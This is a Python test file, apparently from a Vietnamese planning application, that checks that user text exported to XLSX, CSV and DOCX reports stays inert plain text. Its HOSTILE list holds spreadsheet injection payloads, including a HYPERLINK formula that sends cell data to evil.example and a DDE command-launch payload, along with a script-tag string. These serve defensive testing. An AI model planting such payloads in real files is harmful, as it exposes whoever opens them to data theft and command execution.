"""Free text typed by users never becomes a live formula in an exported workbook or CSV (OWASP CSV
injection), and DOCX documents carry it as plain text. Every file is read back."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date

import pytest
from openpyxl import load_workbook

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    " =1+1",
]


def formula_cells(path) -> list[str]:
    """Every cell of every sheet that a spreadsheet would evaluate (openpyxl type 'f' or text '=...')."""
    wb = load_workbook(path)
    bad = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.lstrip().startswith("=")):
                    bad.append(f"{ws.title}!{cell.coordinate}={cell.value!r}")
    return bad


def all_text(path) -> str:
    wb = load_workbook(path)
    return "\n".join(str(c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row
                     if c.value is not None)


@pytest.mark.parametrize("text", HOSTILE)
def test_ministry_form(tmp_path, text):
    from piiplan.reports.ministry_form import write_ministry_form
    from piiplan.reports.model import MinistryForm, MinistryFormRow

    rows = [MinistryFormRow("1.2.1", text, "%", 1.0, text, text, text)]
    path = write_ministry_form(MinistryForm(text, 2026, rows), tmp_path / "bo.xlsx")
    assert formula_cells(path) == []
    assert "'" + text in all_text(path)  # still readable, as text


@pytest.mark.parametrize("text", HOSTILE[:3])
def test_agency_template_and_its_round_trip(tmp_path, text):
    from piiplan.reports import read_agency_template, write_agency_template
    from piiplan.reports.model import AgencyTemplate, TemplateIndicator

    t = AgencyTemplate(agency=text, agency_code="X", unit="Lạng Sơn", year=2026,
                       indicators=[TemplateIndicator("1.2.1", text, "%", text, 1.0)])
    path = write_agency_template(t, tmp_path / "bieu.xlsx")
    assert formula_cells(path) == []
    # The agency types hostile evidence text into the template; it reads back as the text typed.
    wb = load_workbook(path)
    ws = wb["Số liệu"]
    header = next(r for r in range(1, 30) if ws.cell(row=r, column=2).value == "Mã chỉ số")
    ws.cell(row=header + 1, column=7, value=5.0)
    wb.save(path)
    frame = read_agency_template(path)
    assert frame["agency"].iloc[0] == text


@pytest.mark.parametrize("text", HOSTILE)
def test_plan_appendix_round_trip(tmp_path, text):
    from piiplan.web.plan.appendix import AppendixRow, read_appendix, write_appendix

    rows = [AppendixRow(1, ["1.2.1"], text, "Sở Tài chính", [text], text, date(2026, 12, 31))]
    content = write_appendix(rows, title=text)
    path = tmp_path / "phu-luc.xlsx"
    path.write_bytes(content)
    assert formula_cells(path) == []
    back = read_appendix(io.BytesIO(content))
    assert back[0].content == text.strip() and back[0].output == text.strip()


@pytest.mark.django_db
@pytest.mark.parametrize("text", HOSTILE[:2])
def test_dataset_export_workbook(tmp_path, text):
    from piiplan.demo import demo_framework, load_demo
    from piiplan.web.indexdata.export import workbook_bytes

    ds = load_demo()
    ds.units = ds.units.copy()
    ds.units.iloc[0, ds.units.columns.get_loc("name")] = text
    path = tmp_path / "du-lieu.xlsx"
    path.write_bytes(workbook_bytes(ds, demo_framework()))
    assert formula_cells(path) == []


@pytest.mark.parametrize("text", HOSTILE[:2])
def test_engine_export_csv_and_xlsx(tmp_path, text):
    from piiplan.demo import demo_framework, load_demo
    from piiplan.engine import build_dataset, preset
    from piiplan.engine.export import write_outputs

    ds = load_demo()
    ds.units = ds.units.copy()
    ds.units.iloc[0, ds.units.columns.get_loc("name")] = text
    res = build_dataset(demo_framework(), ds, 2025, preset("pii"))
    written = write_outputs(res, tmp_path / "out", xlsx=True, label=text)
    for path in written:
        if path.suffix == ".csv":
            for row in csv.reader(path.read_text(encoding="utf-8").splitlines()):
                assert not any(c.lstrip().startswith(("=", "+", "@")) for c in row if c), row
        if path.suffix == ".xlsx":
            assert formula_cells(path) == []


def test_docx_carries_hostile_text_as_plain_text(reminder, tmp_path):
    from docx import Document

    from piiplan.reports.reminder import write_reminder_letter

    reminder.agency = HOSTILE[0] + " <w:t>&amp;"
    reminder.items[0].task = HOSTILE[1]
    reminder.items[0].note = "<script>alert(1)</script>"
    path = write_reminder_letter(reminder, tmp_path / "cv.docx")
    doc = Document(path)
    text = "\n".join(p.text for p in doc.paragraphs) + "\n".join(
        c.text for t in doc.tables for row in t.rows for c in row.cells)
    assert HOSTILE[1] in text and "<w:t>&amp;" in text
    xml = zipfile.ZipFile(path).read("word/document.xml").decode()
    # No field codes (HYPERLINK/DDE) were created from the text, and the markup stayed escaped.
    assert "instrText" not in xml and "fldSimple" not in xml
    assert "<script>" not in xml and "&lt;w:t&gt;" in xml
